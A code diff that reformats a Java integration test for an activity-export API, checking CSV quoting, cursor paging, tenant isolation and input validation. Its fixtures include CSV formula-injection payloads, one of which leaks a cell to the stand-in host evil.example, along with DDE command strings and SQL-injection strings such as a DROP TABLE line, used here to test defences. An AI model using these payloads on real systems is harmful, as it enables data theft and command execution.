@@ -52,16 +52,19 @@ import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.MethodSource;
 
 /**
- * GET /api/v1/activity/export against a real ClickHouse (its own database): parameters, keyset pages against the
- * CSV stream, a walk while rows arrive, tenant isolation for every grouping, filter and format, CSV quoting.
+ * GET /api/v1/activity/export against a real ClickHouse (its own database): parameters, keyset
+ * pages against the CSV stream, a walk while rows arrive, tenant isolation for every grouping,
+ * filter and format, CSV quoting.
  */
 class ExportApiIntegrationTest {
 
-  static final ObjectMapper EXACT = JsonMapper.builder()
-      .enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS)
-      .disable(JsonNodeFeature.STRIP_TRAILING_BIGDECIMAL_ZEROES)
-      .build();
-  private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
+  static final ObjectMapper EXACT =
+      JsonMapper.builder()
+          .enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS)
+          .disable(JsonNodeFeature.STRIP_TRAILING_BIGDECIMAL_ZEROES)
+          .build();
+  private static final HttpClient HTTP =
+      HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
 
   private static final String ACME = "acme";
   private static final String BETA = "beta";
@@ -73,24 +76,36 @@ class ExportApiIntegrationTest {
   private static final String COMMA_USER = "bob,comma";
   private static final String QUOTE_USER = "q\"uote";
   private static final String NEWLINE_USER = "new\nline";
+
   /** Its own account: user ids and endpoint names a spreadsheet would run as formulas. */
   private static final String GAMMA = "gamma";
+
   private static final String GAMMA_KEY = "d4".repeat(32);
-  private static final List<String> FORMULA_USERS = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
-      "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0");
-  private static final Endpoint FORMULA_EP = new Endpoint("=cmd|' /C calc'!A0", "-permaslug", "@Provider",
-      "+endpoint");
+  private static final List<String> FORMULA_USERS =
+      List.of(
+          "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
+          "+1+cmd|' /C calc'!A0",
+          "-2+3+cmd|' /C calc'!A0",
+          "@SUM(1+1)*cmd|' /C calc'!A0");
+  private static final Endpoint FORMULA_EP =
+      new Endpoint("=cmd|' /C calc'!A0", "-permaslug", "@Provider", "+endpoint");
 
-
-  static final Endpoint OPENAI = new Endpoint("openai/gpt-4o", "openai/gpt-4o-2024-08-06", "OpenAI",
-      "OpenAI/openai/gpt-4o-2024-08-06");
-  private static final Endpoint CLAUDE = new Endpoint("anthropic/claude-sonnet-4", "anthropic/claude-sonnet-4",
-      "Anthropic", "Anthropic/anthropic/claude-sonnet-4");
-  private static final Endpoint BETA_EP = new Endpoint("beta/secret-model", "beta/secret-model", "BetaOnly",
-      "BetaOnly/beta/secret-model");
+  static final Endpoint OPENAI =
+      new Endpoint(
+          "openai/gpt-4o", "openai/gpt-4o-2024-08-06", "OpenAI", "OpenAI/openai/gpt-4o-2024-08-06");
+  private static final Endpoint CLAUDE =
+      new Endpoint(
+          "anthropic/claude-sonnet-4",
+          "anthropic/claude-sonnet-4",
+          "Anthropic",
+          "Anthropic/anthropic/claude-sonnet-4");
+  private static final Endpoint BETA_EP =
+      new Endpoint(
+          "beta/secret-model", "beta/secret-model", "BetaOnly", "BetaOnly/beta/secret-model");
 
   /** Today is 2026-11-22: the last completed day is 2026-11-21. */
   private static final Instant NOW = Instant.parse("2026-11-22T00:00:05Z");
+
   private static final String D1 = "2026-11-21";
   private static final String D2 = "2026-11-20";
   private static final String D3 = "2026-11-19";
@@ -114,31 +129,56 @@ class ExportApiIntegrationTest {
     gammaKey = QueryTestEnv.newKey(keys, CredentialKind.MANAGEMENT, GAMMA);
     ingestToken = QueryTestEnv.newKey(keys, CredentialKind.INGEST, null);
     Map<String, String> env = QueryTestEnv.of(endpoint, database, keys.file());
-    // Several CSV pages even for this small fixture, so the keyset continuation of the stream is exercised.
+    // Several CSV pages even for this small fixture, so the keyset continuation of the stream is
+    // exercised.
     server = ActivityServer.start(QueryTestEnv.config(env), Clock.fixed(NOW, ZoneOffset.UTC), 4);
-    clickHouse = new ClickHouse(new ClickHouseConfig(endpoint.httpUrl(), endpoint.user(), endpoint.password(), database));
+    clickHouse =
+        new ClickHouse(
+            new ClickHouseConfig(
+                endpoint.httpUrl(), endpoint.user(), endpoint.password(), database));
     insertFixture();
   }
 
   @AfterAll
   static void stop() {
-        if (server != null) {
+    if (server != null) {
       server.close();
     }
     QueryTestEnv.dropDatabase(clickHouse, database);
   }
 
-  // ---- fixture ------------------------------------------------------------------------------------------
+  // ---- fixture
+  // ------------------------------------------------------------------------------------------
 
-  /** A usage_daily row as JSONEachRow; the other totals follow from {@code requests} and {@code usage}. */
-  static String row(String account, String date, String key, String user, Endpoint ep, long requests,
-      String usage, long version) {
-    return QueryTestEnv.rollupRow(account, date, key, user, ep, requests, usage,
-        new BigDecimal(usage).movePointLeft(3).setScale(12, RoundingMode.DOWN).toPlainString(), requests / 2, version);
+  /**
+   * A usage_daily row as JSONEachRow; the other totals follow from {@code requests} and {@code
+   * usage}.
+   */
+  static String row(
+      String account,
+      String date,
+      String key,
+      String user,
+      Endpoint ep,
+      long requests,
+      String usage,
+      long version) {
+    return QueryTestEnv.rollupRow(
+        account,
+        date,
+        key,
+        user,
+        ep,
+        requests,
+        usage,
+        new BigDecimal(usage).movePointLeft(3).setScale(12, RoundingMode.DOWN).toPlainString(),
+        requests / 2,
+        version);
   }
 
   private static void insert(String table, String... lines) {
-    clickHouse.insertJsonEachRow(table, (String.join("\n", lines) + "\n").getBytes(StandardCharsets.UTF_8));
+    clickHouse.insertJsonEachRow(
+        table, (String.join("\n", lines) + "\n").getBytes(StandardCharsets.UTF_8));
   }
 
   private static String keyRow(String account, String key) {
@@ -147,7 +187,8 @@ class ExportApiIntegrationTest {
 
   private static void insertFixture() {
     insert("api_key_hashes", keyRow(ACME, A1), keyRow(ACME, A2), keyRow(BETA, BETA_KEY));
-    insert("usage_daily",
+    insert(
+        "usage_daily",
         row(ACME, D1, A1, "alice", OPENAI, 2, "1.100000000000", 1),
         row(ACME, D1, A2, "alice", OPENAI, 3, "2.2", 1),
         row(ACME, D1, A1, "", CLAUDE, 5, "0.000000000001", 1),
@@ -162,17 +203,23 @@ class ExportApiIntegrationTest {
         row(BETA, D2, BETA_KEY, "alice", BETA_EP, 98, BETA_MONEY, 1));
     insert("api_key_hashes", keyRow(GAMMA, GAMMA_KEY));
     for (int i = 0; i < FORMULA_USERS.size(); i++) {
-      insert("usage_daily", row(GAMMA, D1, GAMMA_KEY, FORMULA_USERS.get(i), FORMULA_EP, i + 1, "1.5", 1));
+      insert(
+          "usage_daily",
+          row(GAMMA, D1, GAMMA_KEY, FORMULA_USERS.get(i), FORMULA_EP, i + 1, "1.5", 1));
     }
     // A higher version of one row in its own part: FINAL must keep only this one.
     insert("usage_daily", row(ACME, D3, A2, "carol", OPENAI, 10, "5.75", 2));
   }
 
-  // ---- HTTP helpers -------------------------------------------------------------------------------------
+  // ---- HTTP helpers
+  // -------------------------------------------------------------------------------------
 
-  private static HttpResponse<String> get(String authorization, String path, String query) throws Exception {
-    HttpRequest.Builder request = HttpRequest.newBuilder(
-        URI.create("http://127.0.0.1:" + server.port() + path + (query.isEmpty() ? "" : "?" + query)));
+  private static HttpResponse<String> get(String authorization, String path, String query)
+      throws Exception {
+    HttpRequest.Builder request =
+        HttpRequest.newBuilder(
+            URI.create(
+                "http://127.0.0.1:" + server.port() + path + (query.isEmpty() ? "" : "?" + query)));
     if (authorization != null) {
       request.header("Authorization", authorization);
     }
@@ -185,7 +232,8 @@ class ExportApiIntegrationTest {
 
   private static JsonNode json(HttpResponse<String> response) throws Exception {
     assertEquals(200, response.statusCode(), response.body());
-    assertTrue(response.headers().firstValue("Content-Type").orElse("").startsWith("application/json"));
+    assertTrue(
+        response.headers().firstValue("Content-Type").orElse("").startsWith("application/json"));
     return EXACT.readTree(response.body());
   }
 
@@ -198,7 +246,11 @@ class ExportApiIntegrationTest {
     List<JsonNode> rows = new ArrayList<>();
     String cursor = null;
     for (int pages = 0; pages < 1000; pages++) {
-      JsonNode page = json(export(key, query + "&limit=" + limit + (cursor == null ? "" : "&cursor=" + enc(cursor))));
+      JsonNode page =
+          json(
+              export(
+                  key,
+                  query + "&limit=" + limit + (cursor == null ? "" : "&cursor=" + enc(cursor))));
       assertTrue(page.get("data").size() <= limit);
       page.get("data").forEach(rows::add);
       if (page.get("next_cursor").isNull()) {
@@ -213,16 +265,21 @@ class ExportApiIntegrationTest {
   /** A JSON row as CSV cells: null user is an empty cell, numbers as their exact plain text. */
   private static List<String> cells(JsonNode row) {
     List<String> cells = new ArrayList<>();
-    row.fields().forEachRemaining(field -> {
-      JsonNode value = field.getValue();
-      if (value.isNull()) {
-        cells.add("");
-      } else if (value.isNumber()) {
-        cells.add(value.isIntegralNumber() ? value.bigIntegerValue().toString() : value.decimalValue().toPlainString());
-      } else {
-        cells.add(value.asText());
-      }
-    });
+    row.fields()
+        .forEachRemaining(
+            field -> {
+              JsonNode value = field.getValue();
+              if (value.isNull()) {
+                cells.add("");
+              } else if (value.isNumber()) {
+                cells.add(
+                    value.isIntegralNumber()
+                        ? value.bigIntegerValue().toString()
+                        : value.decimalValue().toPlainString());
+              } else {
+                cells.add(value.asText());
+              }
+            });
     return cells;
   }
 
@@ -275,7 +332,8 @@ class ExportApiIntegrationTest {
   private static List<List<String>> csv(String key, String query) throws Exception {
     HttpResponse<String> response = export(key, query + "&format=csv");
     assertEquals(200, response.statusCode(), response.body());
-    assertEquals("text/csv; charset=utf-8", response.headers().firstValue("Content-Type").orElse(""));
+    assertEquals(
+        "text/csv; charset=utf-8", response.headers().firstValue("Content-Type").orElse(""));
     return parseCsv(response.body());
   }
 
@@ -286,13 +344,18 @@ class ExportApiIntegrationTest {
     return error;
   }
 
-  // ---- ClickHouse 18.16 facts the keyset relies on -------------------------------------------------------
+  // ---- ClickHouse 18.16 facts the keyset relies on
+  // -------------------------------------------------------
 
   @Test
   void clickHouseComparesTuplesLexicographically() {
-    JsonNode answer = clickHouse.query("SELECT (toDate('2026-01-02'), 'a') > (toDate('2026-01-01'), 'z') AS a,"
-        + " ('a', 'b') > ('a', 'a') AS b, ('a', 'b') > ('b', 'a') AS c, ('', 'x') < ('a', '') AS d,"
-        + " ('a', 'b') > ('a', 'b') AS e, ('ab') > ('a') AS f").get(0);
+    JsonNode answer =
+        clickHouse
+            .query(
+                "SELECT (toDate('2026-01-02'), 'a') > (toDate('2026-01-01'), 'z') AS a,"
+                    + " ('a', 'b') > ('a', 'a') AS b, ('a', 'b') > ('b', 'a') AS c, ('', 'x') < ('a', '') AS d,"
+                    + " ('a', 'b') > ('a', 'b') AS e, ('ab') > ('a') AS f")
+            .get(0);
     assertEquals("1", answer.get("a").asText());
     assertEquals("1", answer.get("b").asText());
     assertEquals("0", answer.get("c").asText());
@@ -301,19 +364,33 @@ class ExportApiIntegrationTest {
     assertEquals("1", answer.get("f").asText());
   }
 
-  // ---- answers ------------------------------------------------------------------------------------------
+  // ---- answers
+  // ------------------------------------------------------------------------------------------
 
   @Test
   void defaultGroupsByUserWithExactTotals() throws Exception {
     JsonNode page = json(export(acmeKey, RANGE));
     assertTrue(page.get("next_cursor").isNull());
     List<String> users = new ArrayList<>();
-    page.get("data").forEach(r -> users.add(r.get("user_id").isNull() ? null : r.get("user_id").asText()));
+    page.get("data")
+        .forEach(r -> users.add(r.get("user_id").isNull() ? null : r.get("user_id").asText()));
     // '' (no user) first, then bytewise.
-    assertEquals(java.util.Arrays.asList(null, "alice", COMMA_USER, "carol", NEWLINE_USER, QUOTE_USER), users);
+    assertEquals(
+        java.util.Arrays.asList(null, "alice", COMMA_USER, "carol", NEWLINE_USER, QUOTE_USER),
+        users);
     JsonNode alice = page.get("data").get(1);
-    assertEquals(List.of("user_id", "requests", "prompt_tokens", "completion_tokens", "reasoning_tokens",
-        "cached_tokens", "byok_requests", "usage", "byok_usage_inference"), names(alice));
+    assertEquals(
+        List.of(
+            "user_id",
+            "requests",
+            "prompt_tokens",
+            "completion_tokens",
+            "reasoning_tokens",
+            "cached_tokens",
+            "byok_requests",
+            "usage",
+            "byok_usage_inference"),
+        names(alice));
     assertEquals("11", alice.get("requests").asText());
     assertEquals("1100", alice.get("prompt_tokens").asText());
     assertEquals(new BigDecimal("6.3"), alice.get("usage").decimalValue());
@@ -375,15 +452,20 @@ class ExportApiIntegrationTest {
 
   @Test
   void groupingOrderInTheParameterDoesNotChangeTheColumns() throws Exception {
-    assertEquals(response(RANGE + "&group_by=date,user,endpoint"), response(RANGE + "&group_by=endpoint,user,date"));
+    assertEquals(
+        response(RANGE + "&group_by=date,user,endpoint"),
+        response(RANGE + "&group_by=endpoint,user,date"));
   }
 
   @Test
   void csvQuotesCommasQuotesAndNewlines() throws Exception {
     HttpResponse<String> response = export(acmeKey, RANGE + "&format=csv&group_by=user");
     String body = response.body();
-    assertTrue(body.startsWith("user_id,requests,prompt_tokens,completion_tokens,reasoning_tokens,cached_tokens,"
-        + "byok_requests,usage,byok_usage_inference\r\n"), body);
+    assertTrue(
+        body.startsWith(
+            "user_id,requests,prompt_tokens,completion_tokens,reasoning_tokens,cached_tokens,"
+                + "byok_requests,usage,byok_usage_inference\r\n"),
+        body);
     assertTrue(body.contains("\r\n\"bob,comma\",1,100,10,1,3,0,10,0.01\r\n"), body);
     assertTrue(body.contains("\r\n\"q\"\"uote\",7,"), body);
     assertTrue(body.contains("\r\n\"new\nline\",4,"), body);
@@ -392,7 +474,8 @@ class ExportApiIntegrationTest {
     List<List<String>> records = parseCsv(body);
     Set<String> users = new LinkedHashSet<>();
     records.subList(1, records.size()).forEach(r -> users.add(r.get(0)));
-    assertTrue(users.containsAll(List.of(COMMA_USER, QUOTE_USER, NEWLINE_USER, "")), users.toString());
+    assertTrue(
+        users.containsAll(List.of(COMMA_USER, QUOTE_USER, NEWLINE_USER, "")), users.toString());
     assertEquals("no-store", response.headers().firstValue("Cache-Control").orElse(""));
   }
 
@@ -401,9 +484,13 @@ class ExportApiIntegrationTest {
     String query = "from=" + D1 + "&to=" + D1 + "&group_by=user,endpoint";
     String body = export(gammaKey, query + "&format=csv").body();
     for (String user : FORMULA_USERS) {
-      assertTrue(body.contains("\r\n\"'" + user.replace("\"", "\"\"") + "\","), user + " in " + body);
+      assertTrue(
+          body.contains("\r\n\"'" + user.replace("\"", "\"\"") + "\","), user + " in " + body);
     }
-    assertTrue(body.contains(",\"'+endpoint\",\"'=cmd|' /C calc'!A0\",\"'-permaslug\",\"'@Provider\",1,100,"), body);
+    assertTrue(
+        body.contains(
+            ",\"'+endpoint\",\"'=cmd|' /C calc'!A0\",\"'-permaslug\",\"'@Provider\",1,100,"),
+        body);
     List<List<String>> records = parseCsv(body);
     assertEquals(FORMULA_USERS.size() + 1, records.size());
     for (List<String> record : records.subList(1, records.size())) {
@@ -416,19 +503,33 @@ class ExportApiIntegrationTest {
     }
 
     List<String> exported = new ArrayList<>();
-    walk(gammaKey, query, 1000).forEach(r -> {
-      exported.add(r.get("user_id").asText());
-      assertEquals(List.of(FORMULA_EP.id(), FORMULA_EP.model(), FORMULA_EP.permaslug(), FORMULA_EP.provider()),
-          List.of(r.get("endpoint_id").asText(), r.get("model").asText(), r.get("model_permaslug").asText(),
-              r.get("provider_name").asText()));
-    });
+    walk(gammaKey, query, 1000)
+        .forEach(
+            r -> {
+              exported.add(r.get("user_id").asText());
+              assertEquals(
+                  List.of(
+                      FORMULA_EP.id(),
+                      FORMULA_EP.model(),
+                      FORMULA_EP.permaslug(),
+                      FORMULA_EP.provider()),
+                  List.of(
+                      r.get("endpoint_id").asText(),
+                      r.get("model").asText(),
+                      r.get("model_permaslug").asText(),
+                      r.get("provider_name").asText()));
+            });
     assertEquals(new TreeSet<>(FORMULA_USERS), new TreeSet<>(exported));
-    JsonNode activity = json(get("Bearer " + gammaKey, ActivityRouter.ROUTE, "date=" + D1 + "&group_by=user"));
+    JsonNode activity =
+        json(get("Bearer " + gammaKey, ActivityRouter.ROUTE, "date=" + D1 + "&group_by=user"));
     Set<String> users = new TreeSet<>();
-    activity.get("data").forEach(item -> {
-      users.add(item.get("user_id").asText());
-      assertEquals(FORMULA_EP.model(), item.get("model").asText());
-    });
+    activity
+        .get("data")
+        .forEach(
+            item -> {
+              users.add(item.get("user_id").asText());
+              assertEquals(FORMULA_EP.model(), item.get("model").asText());
+            });
     assertEquals(new TreeSet<>(FORMULA_USERS), users);
   }
 
@@ -439,9 +540,19 @@ class ExportApiIntegrationTest {
     List<JsonNode> a2 = walk(acmeKey, RANGE + "&group_by=user&api_key_hash=" + A2.toUpperCase(), 1);
     assertEquals(3, a2.size());
     assertEquals("alice", a2.get(0).get("user_id").asText());
-    assertEquals(List.of(List.of("user_id", "requests", "prompt_tokens", "completion_tokens", "reasoning_tokens",
-        "cached_tokens", "byok_requests", "usage", "byok_usage_inference")), csv(acmeKey,
-        RANGE + "&user_id=nobody").subList(0, 1));
+    assertEquals(
+        List.of(
+            List.of(
+                "user_id",
+                "requests",
+                "prompt_tokens",
+                "completion_tokens",
+                "reasoning_tokens",
+                "cached_tokens",
+                "byok_requests",
+                "usage",
+                "byok_usage_inference")),
+        csv(acmeKey, RANGE + "&user_id=nobody").subList(0, 1));
     assertEquals(1, csv(acmeKey, RANGE + "&user_id=nobody").size(), "header only");
     assertEquals(0, json(export(acmeKey, RANGE + "&user_id=nobody")).get("data").size());
   }
@@ -458,7 +569,8 @@ class ExportApiIntegrationTest {
     error(export(acmeKey, "from=2025-10-17&to=" + D1), 400);
   }
 
-  // ---- walking while data arrives ---------------------------------------------------------------------------
+  // ---- walking while data arrives
+  // ---------------------------------------------------------------------------
 
   @Test
   void aWalkNeverRepeatsOrSkipsWhileRowsArrive() throws Exception {
@@ -469,7 +581,8 @@ class ExportApiIntegrationTest {
     List<String> initial = new ArrayList<>();
     for (int i = 0; i < 10; i++) {
       String user = "walker-" + i;
-      insert("usage_daily", row(ACME, i % 2 == 0 ? day1 : day2, A1, user, OPENAI, i + 1, "1." + i, 1));
+      insert(
+          "usage_daily", row(ACME, i % 2 == 0 ? day1 : day2, A1, user, OPENAI, i + 1, "1." + i, 1));
     }
     for (List<String> record : csv(acmeKey, query).subList(1, 11)) {
       initial.add(record.get(0) + "|" + record.get(1));
@@ -481,18 +594,24 @@ class ExportApiIntegrationTest {
     String cursor = null;
     int page = 0;
     while (true) {
-      JsonNode answer = json(export(acmeKey, query + "&limit=3" + (cursor == null ? "" : "&cursor=" + enc(cursor))));
+      JsonNode answer =
+          json(
+              export(
+                  acmeKey, query + "&limit=3" + (cursor == null ? "" : "&cursor=" + enc(cursor))));
       for (JsonNode r : answer.get("data")) {
         String key = r.get("date").asText() + "|" + r.get("user_id").asText();
         seen.add(key);
         requests.put(key, r.get("requests").asText());
       }
       page++;
-      // Between pages: new groups before and after the position, and higher versions of seen and unseen rows.
-      insert("usage_daily",
+      // Between pages: new groups before and after the position, and higher versions of seen and
+      // unseen rows.
+      insert(
+          "usage_daily",
           row(ACME, day1, A1, "aaa-new-" + page, OPENAI, 1, "0.1", 1),
           row(ACME, day2, A1, "zzz-new-" + page, OPENAI, 1, "0.1", 1));
-      insert("usage_daily",
+      insert(
+          "usage_daily",
           row(ACME, day1, A1, "walker-0", OPENAI, 100 + page, "9", 1 + page),
           row(ACME, day2, A1, "walker-9", OPENAI, 100 + page, "9", 1 + page));
       if (answer.get("next_cursor").isNull()) {
@@ -515,18 +634,21 @@ class ExportApiIntegrationTest {
     assertNotEquals("10", requests.get(day2 + "|walker-9"));
   }
 
-  // ---- tenant isolation ---------------------------------------------------------------------------------------
+  // ---- tenant isolation
+  // ---------------------------------------------------------------------------------------
 
   @Test
   void anAccountNeverSeesAnotherAccountsRows() throws Exception {
-    List<String> filters = List.of("", "&user_id=alice", "&user_id=" + BETA_USER, "&api_key_hash=" + A1);
+    List<String> filters =
+        List.of("", "&user_id=alice", "&user_id=" + BETA_USER, "&api_key_hash=" + A1);
     for (String groupBy : groupings()) {
       for (String filter : filters) {
         String query = RANGE + "&group_by=" + groupBy + filter;
         String jsonBody = export(acmeKey, query + "&limit=1000").body();
         String csvBody = export(acmeKey, query + "&format=csv").body();
         for (String body : List.of(jsonBody, csvBody)) {
-          for (String secret : List.of(BETA_USER, BETA_KEY, BETA_MONEY, "BetaOnly", "secret-model", "98", "99")) {
+          for (String secret :
+              List.of(BETA_USER, BETA_KEY, BETA_MONEY, "BetaOnly", "secret-model", "98", "99")) {
             assertFalse(body.contains(secret), query + " shows " + secret + ": " + body);
           }
         }
@@ -537,7 +659,8 @@ class ExportApiIntegrationTest {
       }
       // And the other way round: beta sees its rows and none of acme's.
       String betaBody = export(betaKey, RANGE + "&group_by=" + groupBy + "&limit=1000").body();
-      assertTrue(betaBody.contains("\"requests\":197") || betaBody.contains("\"requests\":99"), betaBody);
+      assertTrue(
+          betaBody.contains("\"requests\":197") || betaBody.contains("\"requests\":99"), betaBody);
       for (String acmeOnly : List.of(A1, A2, "carol", "openai", "\"requests\":11")) {
         assertFalse(betaBody.contains(acmeOnly), groupBy + ": " + betaBody);
       }
@@ -552,7 +675,8 @@ class ExportApiIntegrationTest {
   void aCursorOfAnotherAccountShowsNothingOfIt() throws Exception {
     String query = RANGE + "&group_by=user";
     String betaCursor = json(export(betaKey, query + "&limit=1")).get("next_cursor").asText();
-    // Same parameters, so the check passes: it only moves acme's walk past "alice"; acme's rows only.
+    // Same parameters, so the check passes: it only moves acme's walk past "alice"; acme's rows
+    // only.
     JsonNode page = json(export(acmeKey, query + "&limit=1000&cursor=" + enc(betaCursor)));
     assertFalse(page.toString().contains(BETA_USER));
     assertTrue(page.get("data").size() > 0);
@@ -560,11 +684,14 @@ class ExportApiIntegrationTest {
 
   @Test
   void aHandBuiltCursorOnlyMovesWithinTheCallersOwnRows() throws Exception {
-    // The check is a plain digest, so a client can compute it: such a cursor is accepted, and still shows nothing
+    // The check is a plain digest, so a client can compute it: such a cursor is accepted, and still
+    // shows nothing
     // but the caller's rows after the position it names, whatever that position holds.
     String query = RANGE + "&group_by=user";
-    ExportRequest request = ExportRequest.parse(QueryString.parse(query), NOW.atZone(ZoneOffset.UTC).toLocalDate());
-    for (String position : List.of("", BETA_USER, "' OR account_id = 'beta' --", "\\' OR 1=1 --", "zzzz")) {
+    ExportRequest request =
+        ExportRequest.parse(QueryString.parse(query), NOW.atZone(ZoneOffset.UTC).toLocalDate());
+    for (String position :
+        List.of("", BETA_USER, "' OR account_id = 'beta' --", "\\' OR 1=1 --", "zzzz")) {
       String forged = ExportCursor.encode(List.of(position), request);
       JsonNode page = json(export(acmeKey, query + "&limit=1000&cursor=" + enc(forged)));
       for (JsonNode row : page.get("data")) {
@@ -577,7 +704,8 @@ class ExportApiIntegrationTest {
     }
   }
 
-  // ---- auth -----------------------------------------------------------------------------------------------
+  // ---- auth
+  // -----------------------------------------------------------------------------------------------
 
   @Test
   void authIsTheActivityAuth() throws Exception {
@@ -591,24 +719,52 @@ class ExportApiIntegrationTest {
     error(export(ingestToken, "from=bad"), 403);
   }
 
-  // ---- parameters ---------------------------------------------------------------------------------------
+  // ---- parameters
+  // ---------------------------------------------------------------------------------------
 
   static Stream<Arguments> invalidParameters() {
     String big = "x".repeat(10_000);
     List<Arguments> cases = new ArrayList<>();
     for (String name : List.of("from", "to")) {
       String other = name.equals("from") ? "to=" + D1 : "from=" + D3;
-      for (String value : List.of("", "2026-11-22", "2026-11-31", "2026-13-01", "20261121", "2026-11-21'",
-          "2026-11-21\\", "'; DROP TABLE usage_daily --", big, "２０２６-１１-２１", "1969-12-31", "0000-01-01",
-          "9999-12-31", "-2026-11-21", "+2026-11-21")) {
+      for (String value :
+          List.of(
+              "",
+              "2026-11-22",
+              "2026-11-31",
+              "2026-13-01",
+              "20261121",
+              "2026-11-21'",
+              "2026-11-21\\",
+              "'; DROP TABLE usage_daily --",
+              big,
+              "２０２６-１１-２１",
+              "1969-12-31",
+              "0000-01-01",
+              "9999-12-31",
+              "-2026-11-21",
+              "+2026-11-21")) {
         cases.add(Arguments.of(name, other + "&" + name + "=" + enc(value)));
       }
       cases.add(Arguments.of(name, other));
       cases.add(Arguments.of(name, RANGE + "&" + name + "=" + D2));
     }
     cases.add(Arguments.of("from", "from=" + D1 + "&to=" + D2));
-    for (String value : List.of("", "user,", ",user", "user,user", "USER", "users", "user api_key", "user'",
-        "user\\", big, "ユーザー", "date,user,api_key,endpoint,date", "month")) {
+    for (String value :
+        List.of(
+            "",
+            "user,",
+            ",user",
+            "user,user",
+            "USER",
+            "users",
+            "user api_key",
+            "user'",
+            "user\\",
+            big,
+            "ユーザー",
+            "date,user,api_key,endpoint,date",
+            "month")) {
       cases.add(Arguments.of("group_by", RANGE + "&group_by=" + enc(value)));
     }
     cases.add(Arguments.of("group_by", RANGE + "&group_by=user&group_by=date"));
@@ -624,13 +780,26 @@ class ExportApiIntegrationTest {
       cases.add(Arguments.of("format", RANGE + "&format=" + enc(value)));
     }
     cases.add(Arguments.of("format", RANGE + "&format=json&format=json"));
-    for (String value : List.of("", "0", "1001", "-1", "1.5", "1e3", "99999999999999999999", "'", "\\", big, "١٠",
-        " 5")) {
+    for (String value :
+        List.of(
+            "",
+            "0",
+            "1001",
+            "-1",
+            "1.5",
+            "1e3",
+            "99999999999999999999",
+            "'",
+            "\\",
+            big,
+            "١٠",
+            " 5")) {
       cases.add(Arguments.of("limit", RANGE + "&limit=" + enc(value)));
     }
     cases.add(Arguments.of("limit", RANGE + "&limit=5&limit=5"));
     cases.add(Arguments.of("limit", RANGE + "&format=csv&limit=5"));
-    for (String value : List.of("", "'", "\\", "!!!", big, "ü", "e30", "W10", "bnVsbA", "eyJ2IjoxfQ")) {
+    for (String value :
+        List.of("", "'", "\\", "!!!", big, "ü", "e30", "W10", "bnVsbA", "eyJ2IjoxfQ")) {
       cases.add(Arguments.of("cursor", RANGE + "&cursor=" + enc(value)));
     }
     cases.add(Arguments.of("cursor", RANGE + "&format=csv&cursor=abc"));
@@ -650,8 +819,18 @@ class ExportApiIntegrationTest {
   }
 
   static Stream<Arguments> hostileUsers() {
-    return Stream.of("' OR 1=1 --", "alice'", "alice\\", "\\'", "ü'ser \\ 1", "x".repeat(256), "😀".repeat(256),
-        "%27", "alice%", "a_ice").map(Arguments::of);
+    return Stream.of(
+            "' OR 1=1 --",
+            "alice'",
+            "alice\\",
+            "\\'",
+            "ü'ser \\ 1",
+            "x".repeat(256),
+            "😀".repeat(256),
+            "%27",
+            "alice%",
+            "a_ice")
+        .map(Arguments::of);
   }
 
   @ParameterizedTest
@@ -665,14 +844,24 @@ class ExportApiIntegrationTest {
   void malformedPercentEscapeAndHugeLinesAreNot500() throws Exception {
     try (java.net.Socket socket = new java.net.Socket("127.0.0.1", server.port())) {
       socket.setSoTimeout(10_000);
-      socket.getOutputStream().write(("GET " + ActivityRouter.EXPORT_ROUTE + "?" + RANGE + "&user_id=%zz HTTP/1.1\r\n"
-          + "Host: 127.0.0.1\r\nAuthorization: Bearer " + acmeKey + "\r\nConnection: close\r\n\r\n")
-          .getBytes(StandardCharsets.ISO_8859_1));
+      socket
+          .getOutputStream()
+          .write(
+              ("GET "
+                      + ActivityRouter.EXPORT_ROUTE
+                      + "?"
+                      + RANGE
+                      + "&user_id=%zz HTTP/1.1\r\n"
+                      + "Host: 127.0.0.1\r\nAuthorization: Bearer "
+                      + acmeKey
+                      + "\r\nConnection: close\r\n\r\n")
+                  .getBytes(StandardCharsets.ISO_8859_1));
       String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
       assertTrue(answer.startsWith("HTTP/1.1 400"), answer);
     }
     HttpResponse<String> huge = export(acmeKey, RANGE + "&cursor=" + "x".repeat(100_000));
-    assertTrue(huge.statusCode() >= 400 && huge.statusCode() < 500, String.valueOf(huge.statusCode()));
+    assertTrue(
+        huge.statusCode() >= 400 && huge.statusCode() < 500, String.valueOf(huge.statusCode()));
   }
 
   @Test
@@ -680,7 +869,8 @@ class ExportApiIntegrationTest {
     assertEquals(response(RANGE), response(RANGE + "&From=2020-01-01&offset=5&x=%27"));
   }
 
-  // ---- cursors ------------------------------------------------------------------------------------------
+  // ---- cursors
+  // ------------------------------------------------------------------------------------------
 
   @Test
   void tamperedOrForeignCursorsAre400() throws Exception {
@@ -700,17 +890,26 @@ class ExportApiIntegrationTest {
     bad.add(cursor.replace('-', '+').replace('_', '/') + "+/");
     byte[] decoded = Base64.getUrlDecoder().decode(cursor);
     JsonNode inside = EXACT.readTree(decoded);
-    for (String edit : List.of(
-        inside.toString().replace("\"v\":1", "\"v\":2"),
-        inside.toString().replace("\"k\":[", "\"k\":[\"x\","),
-        inside.toString().replace("\"k\":[", "\"k\":[1,"),
-        inside.toString().replace(D1, "2026-11-22"),
-        inside.toString().replace("\"c\":\"", "\"c\":\"x"),
-        "{\"v\":1,\"k\":[\"2026-11-21\",\"alice\"],\"c\":\"AAAAAAAAAAAAAAAAAAAAAA\"}",
-        "{\"v\":1,\"k\":[\"2026-11-21\",\"alice\"],\"c\":null}",
-        "{\"v\":1,\"k\":\"x\",\"c\":\"x\"}",
-        "[1,2,3]", "null", "1", "\"x\"", "{}", "{\"v\":1}")) {
-      bad.add(Base64.getUrlEncoder().withoutPadding().encodeToString(edit.getBytes(StandardCharsets.UTF_8)));
+    for (String edit :
+        List.of(
+            inside.toString().replace("\"v\":1", "\"v\":2"),
+            inside.toString().replace("\"k\":[", "\"k\":[\"x\","),
+            inside.toString().replace("\"k\":[", "\"k\":[1,"),
